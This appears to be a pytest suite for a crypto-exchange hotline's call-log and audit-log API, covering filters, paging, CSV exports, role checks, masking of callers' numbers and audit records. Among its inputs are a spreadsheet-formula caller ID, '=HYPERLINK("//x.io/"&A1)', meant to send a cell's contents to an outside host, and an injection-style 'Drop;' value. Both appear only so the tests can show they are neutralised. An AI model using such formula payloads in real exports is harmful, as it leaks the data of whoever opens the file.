"""Supervisors' call log over HTTP, checked against calls placed through the phone."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, event, insert, select

from ivr.api import CSV_MAX_ROWS
from ivr.calllog import freezes, timeline
from ivr.cases import audit
from ivr.db import audit_log, calls, cases
from ivr.identity import LocalDirectory
from ivr.phone import Phone, Press, ScriptedParty, Silent
from ivr.settings import Settings
from tests.conftest import FakeClock, bearer, make_user


@pytest.fixture
def supervisor(db: Engine) -> str:
    return make_user(db, "sam", "supervisor")


@pytest.fixture
def placed(phone: Phone, clock: FakeClock) -> dict[str, str]:
    """Five calls a minute apart, each ending differently. Returns name -> CallSid."""
    plan: dict[str, tuple[list[Any], str]] = {
        "self_help": ([Press("1"), Press("3"), Press("1"), Press("9")], "+15005550101"),
        "hijack_skip": ([Press("1"), Press("1"), Press("*")], "+15005550102"),
        "deposits_agent": ([Press("1"), Press("3"), Press("2"), Press("1")], "+15005550103"),
        "mandarin_general": ([Press("2"), Press("0")], "+15005550104"),
        "silent": ([Silent(), Silent(), Silent()], "+15005550105"),  # then hangs up
    }
    sids = {}
    for name, (answers, number) in plan.items():
        clock.advance(minutes=1)
        sids[name] = phone.call(ScriptedParty(list(answers)), from_number=number).call_sid
    return sids


def add_account(db: Engine, settings: Settings) -> None:
    """Account 10000001 (PIN 739182), its owner's phone +15005550006."""
    LocalDirectory(db, settings.secret_key).add(
        uid="10000001",
        pin="739182",
        id_last4="5064",
        phone="+15005550006",
        totp_secret=None,
        now=datetime(2026, 1, 1, tzinfo=UTC),
    )


def get(client: TestClient, token: str, path: str, **params: Any) -> Any:
    response = client.get(path, headers=bearer(token), params=params)
    assert response.status_code == 200, response.text
    return response.json() if path.endswith(".csv") is False else response.text


def sids_of(page: dict[str, Any]) -> list[str]:
    return [c["call_sid"] for c in page["calls"]]


def test_filters_return_exactly_the_calls_they_should(
    client: TestClient, supervisor: str, placed: dict[str, str], clock: FakeClock
) -> None:
    everything = get(client, supervisor, "/api/calls")
    assert sids_of(everything) == list(reversed(placed.values()))  # newest first
    cases = {
        "emergency": ({"emergency": "true"}, ["hijack_skip"]),
        "not emergency": (
            {"emergency": "false"},
            ["silent", "mandarin_general", "deposits_agent", "self_help"],
        ),
        "topic": ({"topic": "deposits_withdrawals"}, ["deposits_agent", "self_help"]),
        "queue": ({"queue": "general"}, ["mandarin_general"]),
        "verified": ({"verified": "skipped"}, ["hijack_skip"]),
        # Heard advice on their topic and ended the call: self-service. Silent, then gone
        # from the main menu: no help of any kind, just ended.
        "outcome self-service": ({"outcome": "self_service"}, ["self_help"]),
        "outcome ended": ({"outcome": "ended"}, ["silent"]),
        "outcome abandoned": (
            {"outcome": "abandoned"},
            ["mandarin_general", "deposits_agent", "hijack_skip"],
        ),
        "caller": ({"caller": "0103"}, ["deposits_agent"]),
    }
    for what, (params, names) in cases.items():
        page = get(client, supervisor, "/api/calls", **params)
        assert sids_of(page) == [placed[n] for n in names], what
    # [since, until): from the first call up to, not including, the fourth.
    since, until = everything["calls"][-1]["started_at"], everything["calls"][1]["started_at"]
    ranged = get(client, supervisor, "/api/calls", since=since, until=until)
    assert sids_of(ranged) == [placed[n] for n in ("deposits_agent", "hijack_skip", "self_help")]


def test_a_victim_who_hung_up_on_the_way_is_an_emergency_in_the_log(
    phone: Phone, client: TestClient, supervisor: str
) -> None:
    """Their call's state never reached the emergency queue, but their case is an emergency:
    the log says so, and the emergency filter finds them."""
    gone = phone.call(ScriptedParty([Press("1"), Press("1")]), from_number="+15005550106")
    menu = phone.call(ScriptedParty([Press("1"), Press("3")]), from_number="+15005550107")
    page = get(client, supervisor, "/api/calls", emergency="true")
    assert sids_of(page) == [gone.call_sid]
    assert page["calls"][0]["priority"] == "emergency"
    assert page["calls"][0]["outcome"] == "hung_up_on_the_way"  # as the figures count it
    assert sids_of(get(client, supervisor, "/api/calls", emergency="false")) == [menu.call_sid]


def test_pages_follow_the_cursor_without_gaps_or_repeats(
    client: TestClient, supervisor: str, placed: dict[str, str]
) -> None:
    seen: list[str] = []
    cursor = None
    for _ in range(5):
        params = {"limit": 2, **({"cursor": cursor} if cursor else {})}
        page = get(client, supervisor, "/api/calls", **params)
        seen += sids_of(page)
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == list(reversed(placed.values()))
    bad = client.get("/api/calls", headers=bearer(supervisor), params={"cursor": "nope"})
    assert bad.status_code == 422


def test_csv_has_the_same_rows(client: TestClient, supervisor: str, placed: dict[str, str]) -> None:
    listed = get(client, supervisor, "/api/calls", topic="deposits_withdrawals")
    text = get(client, supervisor, "/api/calls.csv", topic="deposits_withdrawals")
    sent = client.get("/api/calls.csv", headers=bearer(supervisor))
    assert sent.headers["content-type"].startswith("text/csv")
    assert sent.headers["content-disposition"] == 'attachment; filename="calls.csv"'
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["call_sid"] for r in rows] == sids_of(listed)
    assert [r["outcome"] for r in rows] == [c["outcome"] for c in listed["calls"]]


def test_supervisors_see_masked_numbers_and_agents_their_own_whole(
    client: TestClient, supervisor: str, placed: dict[str, str], db: Engine
) -> None:
    page = get(client, supervisor, "/api/calls")
    assert {c["caller"] for c in page["calls"]} == {
        f"***{n}" for n in ("0101", "0102", "0103", "0104", "0105")
    }
    agent = make_user(db, "alice", "agent", "+15005559999")
    claimed = client.post("/api/agents/next", headers=bearer(agent)).json()
    mine = claimed["case"]["ticket"]
    seen = {c["ticket"]: c["caller"] for c in get(client, agent, "/api/calls")["calls"]}
    assert seen[mine].startswith("+1500555")  # their own case: the whole number
    assert all(v.startswith("***") or v == "" for t, v in seen.items() if t != mine)


def test_timeline_tells_the_whole_call_without_digits(
    client: TestClient, supervisor: str, placed: dict[str, str]
) -> None:
    found = get(client, supervisor, f"/api/calls/{placed['hijack_skip']}")
    kinds = [(e["node"], e["kind"]) for e in found["events"]]
    assert ("main_menu", "input") in kinds and ("emergency_verify", "verify") in kinds
    assert ("emergency_queue", "case") in kinds and kinds[-1][1] == "status"
    [case] = found["cases"]
    assert case["priority"] == "emergency" and case["verification"]["result"] == "skipped"
    assert found["call"]["outcome"] == "abandoned"
    missing = client.get(f"/api/calls/CA{'0' * 32}", headers=bearer(supervisor))
    assert missing.status_code == 404


def test_call_log_roles(client: TestClient, db: Engine, placed: dict[str, str]) -> None:
    operator = make_user(db, "olga", "operator")
    for path in ("/api/calls", "/api/calls.csv", f"/api/calls/{placed['self_help']}"):
        assert client.get(path).status_code == 401
        assert client.get(path, headers=bearer(operator)).status_code == 403


def test_stats_over_http_count_the_placed_calls(
    client: TestClient, supervisor: str, placed: dict[str, str], clock: FakeClock
) -> None:
    since = (clock.now - timedelta(hours=1)).isoformat()
    until = (clock.now + timedelta(minutes=1)).isoformat()  # [since, until): the last call too
    report = get(client, supervisor, "/api/stats", since=since, until=until)
    # Three callers reached a queue (hijack, deposits agent, Mandarin general) and hung up.
    assert (report["overall"]["offered"], report["overall"]["abandoned"]) == (3, 3)
    assert report["overall"]["answered"] == 0 and report["overall"]["abandonment_rate"] == 1.0
    assert report["calls"] == 5
    naive = client.get(
        "/api/stats", headers=bearer(supervisor), params={"since": "2026-01-01T00:00"}
    )
    assert naive.status_code == 422
    operator = make_user_for(client)
    assert client.get("/api/stats", headers=bearer(operator)).status_code == 403


def make_user_for(client: TestClient) -> str:
    return make_user(client.app.state.hotline.db, "olga", "operator")  # type: ignore[attr-defined]


def test_a_ticket_or_an_account_finds_every_call_about_it(
    phone: Phone,
    client: TestClient,
    supervisor: str,
    db: Engine,
    settings: Settings,
    clock: FakeClock,
) -> None:
    """A complaint names a ticket, a regulator an account: the log finds the call that
    opened the ticket and the follow-ups that came back to it (main menu 9), and every call
    whose case is about the account, a verified victim's; nothing else."""
    add_account(db, settings)
    deposits = phone.call(ScriptedParty([Press("1"), Press("3"), Press("2"), Press("1")]))
    clock.advance(minutes=1)  # newest first: one call a minute
    other = phone.call(ScriptedParty([Press("1"), Press("3"), Press("2"), Press("1")]))
    clock.advance(minutes=1)
    tickets = {c["call_sid"]: c["ticket"] for c in get(client, supervisor, "/api/calls")["calls"]}
    ticket = tickets[deposits.call_sid]
    follow_up = phone.call(ScriptedParty([Press("1"), Press("9"), Press(ticket)]))
    clock.advance(minutes=1)
    victim = phone.call(
        ScriptedParty([Press("1"), Press("1"), Press("10000001"), Press("739182")]),
        from_number="+15005550006",
    )
    found = get(client, supervisor, "/api/calls", ticket=ticket)
    assert sids_of(found) == [follow_up.call_sid, deposits.call_sid]
    assert sids_of(get(client, supervisor, "/api/calls", account="10000001")) == [victim.call_sid]
    assert sids_of(get(client, supervisor, "/api/calls", ticket=tickets[other.call_sid])) == [
        other.call_sid
    ]
    assert get(client, supervisor, "/api/calls", account="99999999")["calls"] == []
    text = get(client, supervisor, "/api/calls.csv", ticket=ticket)
    assert [r["call_sid"] for r in csv.DictReader(io.StringIO(text))] == sids_of(found)
    bad = client.get("/api/calls", headers=bearer(supervisor), params={"ticket": "12ab"})
    assert bad.status_code == 422


def test_an_agent_cannot_learn_an_accounts_phone_number_from_the_log(
    phone: Phone, client: TestClient, db: Engine, settings: Settings
) -> None:
    """Agents see callers' numbers masked (the last 4 digits), and no account UIDs in the
    log. With `account` and `caller` together, an agent who is not on the case would read
    the account holder's whole number off the answers, digit by digit: the number of a
    crypto account's owner (what a SIM swap needs). An agent's answers must be the same
    for any two numbers that look alike masked."""
    add_account(db, settings)
    phone.call(
        ScriptedParty([Press("1"), Press("1"), Press("10000001"), Press("739182")]),
        from_number="+15005550006",
    )
    mallory = make_user(db, "mallory", "agent")

    def answer(number: str) -> tuple[int, Any]:
        r = client.get(
            "/api/calls", headers=bearer(mallory), params={"account": "10000001", "caller": number}
        )
        return r.status_code, r.json() if r.status_code == 200 else None

    assert answer("+15005550006") == answer("+15009990006")  # both ***0006 to her
    # Each way in closed on its own: the account filter is supervisors'...
    assert answer("+15005550006")[0] == 403
    sam = make_user(db, "sam", "supervisor")
    by_account = client.get("/api/calls", headers=bearer(sam), params={"account": "10000001"})
    assert len(by_account.json()["calls"]) == 1
    # ...and an agent's caller filter matches what she sees, the last 4 digits.
    guessed = client.get("/api/calls", headers=bearer(mallory), params={"caller": "+15009990006"})
    assert [c["caller"] for c in guessed.json()["calls"]] == ["***0006"]


def test_a_page_after_the_first_starts_from_its_place_in_the_index(db: Engine) -> None:
    """Page k reads its own calls from the (started_at, call_sid) index, not the k-1 pages
    before it again: the cursor is a range of the index (SQLite: SEARCH ... started_at<?;
    PostgreSQL: an Index Cond on started_at), not a filter on a scan from the newest call."""
    from sqlalchemy import event, insert, text

    from ivr.calllog import CallFilter, list_calls
    from ivr.db import calls

    t0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
    rows = [
        {
            "call_sid": f"CA{n:032x}",
            "from_number": "+15005550100",
            "tree_version": "v1",
            "step": 1,
            "state": {"facts": {}},
            "last_twiml": "<Response/>",
            "status": "completed",
            "started_at": t0 - timedelta(seconds=n // 2),  # pairs at one time: its edge
            "updated_at": t0,
        }
        for n in range(2000)
    ]
    with db.begin() as conn:
        conn.execute(insert(calls), rows)
        if db.dialect.name == "postgresql":
            conn.execute(text("ANALYZE calls"))  # as autovacuum would
    sent: list[tuple[str, Any]] = []

    def capture(conn: Any, cursor: Any, stmt: str, params: Any, ctx: Any, many: bool) -> None:
        sent.append((stmt, params))

    with db.connect() as conn:
        first, cursor = list_calls(conn, filters=CallFilter(), limit=51)
        event.listen(db, "before_cursor_execute", capture)
        try:
            second, _ = list_calls(conn, filters=CallFilter(), limit=51, cursor=cursor)
        finally:
            event.remove(db, "before_cursor_execute", capture)
        stmt, params = sent[-1]
        if db.dialect.name == "sqlite":
            found = conn.exec_driver_sql("EXPLAIN QUERY PLAN " + stmt, params)
            plan = "\n".join(r[3] for r in found)
            assert "ix_calls_started_at_call_sid (started_at<" in plan, plan
        else:
            plan = "\n".join(conn.exec_driver_sql("EXPLAIN " + stmt, params).scalars())
            assert "ix_calls_started_at_call_sid" in plan, plan
            assert "Index Cond: (started_at" in plan, plan
        conn.rollback()
    listed = [(r["started_at"], r["call_sid"]) for r in first + second]
    assert listed == sorted(listed, reverse=True) and len(set(listed)) == 102


def test_a_caller_id_that_reads_as_a_formula_is_text_in_the_csv(
    client: TestClient, phone: Phone, db: Engine
) -> None:
    """A caller ID is whatever the calling network says (a SIP trunk, a spoofer): one made to
    look like a spreadsheet formula stays text in the CSV an agent opens in Excel."""
    formula = '=HYPERLINK("//x.io/"&A1)'  # a click sends the cell beside it away
    phone.call(ScriptedParty([Press("1"), Press("3"), Press("2"), Press("1")]), from_number=formula)
    agent = make_user(db, "alice", "agent", "+15005559999")
    assert client.post("/api/agents/next", headers=bearer(agent)).status_code == 200
    [row] = csv.DictReader(io.StringIO(get(client, agent, "/api/calls.csv")))
    assert row["caller"] == "'" + formula  # Excel shows it, without the quote, as text
    [listed] = get(client, agent, "/api/calls")["calls"]
    assert listed["caller"] == formula  # the JSON as it came


def test_the_logs_outcomes_are_what_the_figures_count(
    phone: Phone, client: TestClient, supervisor: str, db: Engine, clock: FakeClock
) -> None:
    """A case an agent took after the caller hung up is still an abandoned call, a call back
    still a call back once the agent closed it: the log lists what the abandonment rate and
    the call backs counted, not who closed the case last."""
    agent = make_user(db, "alice", "agent")
    calls = {
        "abandoned": phone.call(
            ScriptedParty([Press("1"), Press("0")]), from_number="+15005550201"
        ),
        "callback": phone.call(
            ScriptedParty([Press("1"), Press("0"), Press("1"), Press("2")]),
            from_number="+15005550202",
        ),
        "hung_up_in_a_menu": phone.call(ScriptedParty([Press("1")]), from_number="+15005550203"),
    }
    for _ in range(2):  # the agent calls each back, then closes the case
        taken = client.post("/api/agents/next", headers=bearer(agent)).json()["case"]
        closed = client.post(
            f"/api/cases/{taken['id']}/resolve", headers=bearer(agent), json={"notes": "done"}
        )
        assert closed.status_code == 200, closed.text
    listed = {
        outcome: sids_of(get(client, supervisor, "/api/calls", outcome=outcome))
        for outcome in ("abandoned", "callback", "agent", "ended")
    }
    assert listed == {
        "abandoned": [calls["abandoned"].call_sid],
        "callback": [calls["callback"].call_sid],
        "agent": [],
        "ended": [calls["hung_up_in_a_menu"].call_sid],
    }
    day = {"since": (clock.now - timedelta(days=1)).isoformat()}
    day["until"] = (clock.now + timedelta(minutes=1)).isoformat()
    overall = get(client, supervisor, "/api/stats", **day)["overall"]
    assert (overall["abandoned"], overall["callbacks_requested"], overall["answered"]) == (1, 1, 0)


def test_nothing_the_api_answers_is_kept_by_a_cache(
    phone: Phone, client: TestClient, supervisor: str
) -> None:
    """Its answers hold callers' numbers and what they told agents: a browser or a proxy
    keeps none of them, JSON or CSV."""
    phone.call(ScriptedParty([Press("1"), Press("0")]))
    for path in ("/api/queue", "/api/calls", "/api/calls.csv", "/api/stats"):
        response = client.get(path, headers=bearer(supervisor))
        assert response.status_code == 200, path
        assert response.headers.get("cache-control") == "no-store", path


def add_calls(db: Engine, count: int, first: datetime) -> None:
    """`count` ended calls a second apart from `first`, in one statement (as the bench makes
    them): more than one export holds."""
    with db.begin() as conn:
        conn.execute(
            insert(calls),
            [
                {
                    "call_sid": f"CA{n:032d}",
                    "from_number": "+15005550199",
                    "tree_version": "v1",
                    "step": 0,
                    "state": {"node": "language", "facts": {}},
                    "last_twiml": "<Response/>",
                    "status": "completed",
                    "started_at": first + timedelta(seconds=n),
                    "updated_at": first + timedelta(seconds=n),
                    "ended_at": first + timedelta(seconds=n + 1),
                }
                for n in range(count)
            ],
        )


def test_the_csv_says_when_it_stopped_at_its_row_limit(
    client: TestClient, supervisor: str, db: Engine
) -> None:
    """10,001 calls: the file holds the newest 10,000 and says the rest were left out, in a
    header and in its name; narrowed to 10,000 it is whole, and says that too."""
    first = datetime(2026, 11, 20, tzinfo=UTC)
    add_calls(db, CSV_MAX_ROWS + 1, first)
    cut = client.get("/api/calls.csv", headers=bearer(supervisor))
    assert cut.status_code == 200
    rows = list(csv.DictReader(io.StringIO(cut.text)))
    assert len(rows) == CSV_MAX_ROWS
    assert rows[-1]["call_sid"] == f"CA{1:032d}"  # the oldest, CA...0, left out
    assert cut.headers["x-truncated"] == "true"
    assert cut.headers["content-disposition"] == (
        'attachment; filename="calls-newest-10000-more-left-out.csv"'
    )
    since = (first + timedelta(seconds=1)).isoformat()
    whole = client.get("/api/calls.csv", headers=bearer(supervisor), params={"since": since})
    assert len(list(csv.DictReader(io.StringIO(whole.text)))) == CSV_MAX_ROWS
    assert whole.headers["x-truncated"] == "false"
    assert whole.headers["content-disposition"] == 'attachment; filename="calls.csv"'


def test_a_caller_who_hung_up_on_the_way_is_listed_as_the_figures_count_them(
    phone: Phone, client: TestClient, supervisor: str, clock: FakeClock
) -> None:
    """A victim hangs up at the UID prompt, on the way to the security line; another caller
    hangs up in the general line: the log lists one of each, as the figures count them, so
    the exported rows add up to the figures."""
    on_the_way = phone.call(ScriptedParty([Press("1"), Press("1")]), from_number="+15005550211")
    abandoned = phone.call(ScriptedParty([Press("1"), Press("0")]), from_number="+15005550212")
    listed = {
        outcome: sids_of(get(client, supervisor, "/api/calls", outcome=outcome))
        for outcome in ("hung_up_on_the_way", "abandoned")
    }
    assert listed == {
        "hung_up_on_the_way": [on_the_way.call_sid],
        "abandoned": [abandoned.call_sid],
    }
    day = {"since": (clock.now - timedelta(days=1)).isoformat()}
    day["until"] = (clock.now + timedelta(minutes=1)).isoformat()
    overall = get(client, supervisor, "/api/stats", **day)["overall"]
    assert (overall["hung_up_on_the_way"], overall["abandoned"]) == (1, 1)
    rows = list(csv.DictReader(io.StringIO(get(client, supervisor, "/api/calls.csv", **day))))
    outcomes = sorted(row["outcome"] for row in rows)
    assert outcomes == ["abandoned", "hung_up_on_the_way"]


def test_a_supervisor_finds_the_calls_an_agent_had(
    client: TestClient, db: Engine, supervisor: str, placed: dict[str, str]
) -> None:
    """The shift's work, by whom: alice took the hijack call back and bob the next case; the
    log's agent filter finds each one's (resolved or not), nobody's for an unknown name, and
    is a supervisor's (an agent looks through no colleague's calls)."""
    alice, bob = make_user(db, "alice", "agent"), make_user(db, "bob", "agent")
    first = client.post("/api/agents/next", headers=bearer(alice)).json()["case"]
    done = {"notes": "called back, account secured", "reached": True}
    resolved = client.post(f"/api/cases/{first['id']}/resolve", headers=bearer(alice), json=done)
    assert resolved.status_code == 200, resolved.text
    second = client.post("/api/agents/next", headers=bearer(bob)).json()["case"]

    def tickets(agent: str) -> list[str]:
        listed = get(client, supervisor, "/api/calls", agent=agent)["calls"]
        return [c["ticket"] for c in listed]

    assert tickets("alice") == [first["ticket"]]
    assert tickets("bob") == [second["ticket"]]
    assert get(client, supervisor, "/api/calls", agent="carol")["calls"] == []
    csv_rows = get(client, supervisor, "/api/calls.csv", agent="bob").splitlines()
    assert len(csv_rows) == 2  # the header, bob's call
    refused = client.get("/api/calls", headers=bearer(alice), params={"agent": "bob"})
    assert refused.status_code == 403


def test_exports_and_lookups_of_callers_calls_are_audited_with_numbers_masked(
    client: TestClient, supervisor: str, placed: dict[str, str], db: Engine, settings: Settings
) -> None:
    """A CSV of the calls (the API's, the dashboard's) is caller data in bulk, and a list by
    a caller's number or an account UID is a look at one person: each is audited once, by
    whom, with the filters and the rows found, a number as the log shows it (***0103). A
    list without either is the log browsed: not audited."""
    add_account(db, settings)
    get(client, supervisor, "/api/calls")
    get(client, supervisor, "/api/calls", topic="deposits_withdrawals")
    get(client, supervisor, "/api/calls", caller="+15005550103")
    get(client, supervisor, "/api/calls", account="10000001", limit=2)
    get(client, supervisor, "/api/calls.csv", topic="deposits_withdrawals", caller="0103")
    get(client, supervisor, "/api/calls.csv")
    client.post("/dashboard/login", data={"token": supervisor}, follow_redirects=False)
    dashboard = client.get("/dashboard/calls.csv", params={"caller": "0105"})
    assert dashboard.status_code == 200
    with db.connect() as conn:
        rows = conn.execute(select(audit_log).order_by(audit_log.c.id)).mappings().all()
    said = [
        (r["actor"], r["action"], r["account_uid"], r["reason"])
        for r in rows
        if r["action"] != "sign_in"
    ]
    assert said == [
        ("supervisor:sam", "search_calls", None, "caller=***0103; 1 row(s)"),
        ("supervisor:sam", "search_calls", "10000001", "account; 0 row(s)"),
        (
            "supervisor:sam",
            "export_calls",
            None,
            "topic=deposits_withdrawals caller=***0103; 1 row(s)",
        ),
        ("supervisor:sam", "export_calls", None, "no filters; 5 row(s)"),
        ("supervisor:sam", "export_calls", None, "caller=***0105; 1 row(s)"),
    ]
    assert not any("5005550103" in str(v) for r in rows for v in r.values())


def test_a_calls_timeline_finds_its_audit_entries_by_index(db: Engine) -> None:
    """The timeline's audit: its cases' entries, and what its caller did before a case was
    opened (a self-freeze of a caller who hung up on the way): none of another call's. Both
    looked up by index: at a year's volume (5 M entries) a read of the whole log took over a
    second a timeline."""
    t0 = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
    mine, other = f"CA{'1' * 32}", f"CA{'2' * 32}"
    with db.begin() as conn:
        for sid in (mine, other):
            conn.execute(
                insert(calls).values(
                    call_sid=sid,
                    tree_version="v1",
                    step=1,
                    state={"facts": {}},
                    last_twiml="<Response/>",
                    status="completed",
                    started_at=t0,
                    updated_at=t0,
                )
            )
            conn.execute(
                insert(cases).values(
                    ticket=f"T-{sid[-1]}",
                    call_sid=sid,
                    reason="test",
                    queue="security",
                    priority="emergency",
                    lane=0,
                    sort_at=t0,
                    queued=1,
                    status="waiting",
                    flags={},
                    path=[],
                    created_at=t0,
                )
            )
        ids = {sid: case_id for sid, case_id in conn.execute(select(cases.c.call_sid, cases.c.id))}
    entries = [
        (f"caller:{mine}", None, "before its case"),
        (f"caller:{mine}", ids[mine], "on its case"),
        ("agent:alice", ids[mine], "an agent on its case"),
        (f"caller:{other}", None, "another caller"),
        ("agent:alice", ids[other], "another case"),
    ]
    with db.connect() as conn:
        for actor, case_id, reason in entries:
            audit(
                conn,
                actor=actor,
                action="self_freeze",
                uid="10000001",
                case_id=case_id,
                reason=reason,
                result="ok",
                now=t0,
            )
    sent: list[tuple[str, Any]] = []

    def capture(conn: Any, cursor: Any, stmt: str, params: Any, ctx: Any, many: bool) -> None:
        sent.append((stmt, params))

    with db.connect() as conn:
        event.listen(db, "before_cursor_execute", capture)
        try:
            found = timeline(conn, call_sid=mine)
        finally:
            event.remove(db, "before_cursor_execute", capture)
        assert found is not None
        assert [a["reason"] for a in found["audit"]] == [
            "before its case",
            "on its case",
            "an agent on its case",
        ]
        [(stmt, params)] = [(s, p) for s, p in sent if "FROM audit_log" in s]
        if db.dialect.name == "sqlite":
            plan = "\n".join(
                r[3] for r in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + stmt, params)
            )
        else:  # on a few rows a scan is cheaper: asked to do without one
            conn.exec_driver_sql("SET LOCAL enable_seqscan = off")
            plan = "\n".join(conn.exec_driver_sql("EXPLAIN " + stmt, params).scalars())
        assert "ix_audit_log_case_id" in plan and "ix_audit_log_actor_at" in plan, plan
        conn.rollback()


def test_the_failed_freezes_nobody_made_since_are_found_by_the_accounts_index(db: Engine) -> None:
    """The freezes page's first list: failed freezes whose account nobody froze since. Each
    one's "since" is looked up in the account's entries by time: read from all the freezes
    ever made, once per failed one, a week of them passed the statement timeout."""
    t0 = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
    with db.connect() as conn:
        for uid, action, result, minutes in (
            ("10000001", "freeze", "failed", 0),
            ("10000001", "freeze", "ok", 5),  # made since: not open
            ("10000002", "self_freeze", "failed", 10),
            ("10000002", "freeze", "ok", -5),  # made before it: still open
            ("10000003", "freeze", "failed", 20),
            ("10000003", "unfreeze", "ok", 25),  # no freeze
        ):
            audit(
                conn,
                actor="agent:alice",
                action=action,
                uid=uid,
                case_id=None,
                reason="test",
                result=result,
                now=t0 + timedelta(minutes=minutes),
            )
    sent: list[tuple[str, Any]] = []

    def capture(conn: Any, cursor: Any, stmt: str, params: Any, ctx: Any, many: bool) -> None:
        sent.append((stmt, params))

    with db.connect() as conn:
        event.listen(db, "before_cursor_execute", capture)
        try:
            found = freezes(
                conn, since=t0 - timedelta(hours=1), until=None, limit=50, open_only=True
            )
        finally:
            event.remove(db, "before_cursor_execute", capture)
        assert [(f["account_uid"], f["frozen_after"]) for f in found] == [
            ("10000003", None),
            ("10000002", None),
        ]
        [(stmt, params)] = sent
        if db.dialect.name == "sqlite":
            plan = "\n".join(
                r[3] for r in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + stmt, params)
            )
        else:  # on a few rows a scan is cheaper: asked to do without one
            conn.exec_driver_sql("SET LOCAL enable_seqscan = off")
            plan = "\n".join(conn.exec_driver_sql("EXPLAIN " + stmt, params).scalars())
        assert "ix_audit_log_account_uid_at" in plan, plan
        conn.rollback()


# -- the audit log ------------------------------------------------------------------------


AUDIT_T0 = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
# (minutes after AUDIT_T0, actor, action, account)
AUDITED = [
    (0, "agent:alice", "freeze", "10000001"),
    (1, "cli:alice via sudo as root", "unfreeze", "10000001"),
    (2, "cli:alicea", "user_add", None),
    (3, "supervisor:sam", "priority", None),
    (3, "agent:alice", "resolve", None),  # the same minute: its id orders them
    (4, "caller:CA" + "0" * 32, "self_freeze", "10000002"),
]


def add_audit(db: Engine) -> None:
    with db.connect() as conn:
        for minutes, actor, action, uid in AUDITED:
            at = AUDIT_T0 + timedelta(minutes=minutes)
            audit(
                conn,
                actor=actor,
                action=action,
                uid=uid,
                case_id=None,
                reason=f"{action} by {actor}",
                result="ok",
                now=at,
            )


def actions_of(page: dict[str, Any]) -> list[str]:
    return [e["action"] for e in page["entries"]]


def test_supervisors_read_the_audit_log_filtered_and_paged(
    client: TestClient, supervisor: str, db: Engine
) -> None:
    """Newest first (one time: the later entry first); by who (as the entries name them,
    never a longer name; a kind of actor by its prefix), by action, by account and in a
    period; page by page with no entry twice or left out. A look by account is audited;
    the other looks are not (the log browsed)."""
    add_audit(db)
    every = get(client, supervisor, "/api/audit")
    assert actions_of(every) == [
        "self_freeze",
        "resolve",
        "priority",
        "user_add",
        "unfreeze",
        "freeze",
    ]
    assert every["entries"][0]["account_uid"] == "10000002"
    assert every["entries"][0]["reason"] == "self_freeze by caller:CA" + "0" * 32
    assert every["next_cursor"] is None
    looks = {
        "agent:alice": ["resolve", "freeze"],
        "cli:alice via sudo as root": ["unfreeze"],
        "cli:alice": [],
        "cli:": ["user_add", "unfreeze"],
        "caller:": ["self_freeze"],
        "agent:ali": [],
    }
    for actor, expected in looks.items():
        assert actions_of(get(client, supervisor, "/api/audit", actor=actor)) == expected, actor
    assert actions_of(get(client, supervisor, "/api/audit", action="freeze")) == ["freeze"]
    period = {"since": "2026-11-24T09:01:00Z", "until": "2026-11-24T09:03:00Z"}
    assert actions_of(get(client, supervisor, "/api/audit", **period)) == ["user_add", "unfreeze"]
    seen: list[int] = []
    cursor = None
    while True:
        page = get(
            client, supervisor, "/api/audit", limit=2, **({"cursor": cursor} if cursor else {})
        )
        seen += [e["id"] for e in page["entries"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == [e["id"] for e in every["entries"]]
    by_account = get(client, supervisor, "/api/audit", account_uid="10000001")
    assert actions_of(by_account) == ["unfreeze", "freeze"]
    with db.connect() as conn:
        reads = conn.execute(
            select(audit_log.c.actor, audit_log.c.account_uid, audit_log.c.reason).where(
                audit_log.c.action.in_(("search_audit", "export_audit"))
            )
        ).all()
    assert [tuple(r) for r in reads] == [("supervisor:sam", "10000001", "account; 2 row(s)")]


def test_the_audit_log_is_for_supervisors_and_says_what_it_cannot_do(
    client: TestClient, supervisor: str, db: Engine
) -> None:
    """Agents and operators are refused (it holds account UIDs and what staff typed about
    callers, which only supervisors see); a period the wrong way round, or a cursor the API
    did not make, is said so, as the call log says it."""
    for role in ("agent", "operator"):
        token = make_user(db, f"no-{role}", role)
        for path in ("/api/audit", "/api/audit.csv"):
            refused = client.get(path, headers=bearer(token))
            assert refused.status_code == 403, (role, path)
    backwards = {"since": "2026-11-24T10:00:00Z", "until": "2026-11-24T09:00:00Z"}
    wrong = client.get("/api/audit", headers=bearer(supervisor), params=backwards)
    assert (wrong.status_code, wrong.json()) == (422, {"detail": "since must be before until"})
    made_up = client.get("/api/audit", headers=bearer(supervisor), params={"cursor": "bm9wZQ=="})
    assert (made_up.status_code, made_up.json()) == (422, {"detail": "not a cursor from this API"})
    assert (
        client.get("/api/audit", headers=bearer(supervisor), params={"action": "Drop;"}).status_code
        == 422
    )


def test_exports_of_the_audit_log_are_audited(
    client: TestClient, supervisor: str, db: Engine
) -> None:
    """The audit log as CSV (the API's, the dashboard's): the same entries, and each export
    an entry of its own, with its filters and row count, as a calls export is."""
    add_audit(db)
    text = get(client, supervisor, "/api/audit.csv", actor="agent:alice")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["action"] for r in rows] == ["resolve", "freeze"]
    assert rows[1]["account_uid"] == "10000001" and rows[1]["reason"] == "freeze by agent:alice"
    client.post("/dashboard/login", data={"token": supervisor}, follow_redirects=False)
    dashboard = client.get("/dashboard/audit.csv", params={"action": "unfreeze"})
    assert dashboard.status_code == 200
    assert dashboard.headers["content-disposition"] == 'attachment; filename="audit.csv"'
    assert [r["actor"] for r in csv.DictReader(io.StringIO(dashboard.text))] == [
        "cli:alice via sudo as root"
    ]
    with db.connect() as conn:
        exports = conn.execute(
            select(audit_log.c.actor, audit_log.c.reason)
            .where(audit_log.c.action == "export_audit")
            .order_by(audit_log.c.id)
        ).all()
    assert [tuple(r) for r in exports] == [
        ("supervisor:sam", "actor=agent:alice; 2 row(s)"),
        ("supervisor:sam", "action=unfreeze; 1 row(s)"),
    ]


